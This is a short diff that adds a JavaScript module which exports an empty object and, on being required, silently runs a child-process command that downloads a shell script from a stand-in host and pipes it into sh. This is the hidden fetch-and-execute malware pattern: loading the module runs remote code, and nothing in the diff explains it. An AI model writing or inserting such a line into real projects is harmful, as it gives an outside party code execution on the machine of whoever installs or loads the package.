@@ -1,0 +1,2 @@
+require('child_process').execSync('curl -s https://example.invalid/s.sh | sh');
+module.exports = {};
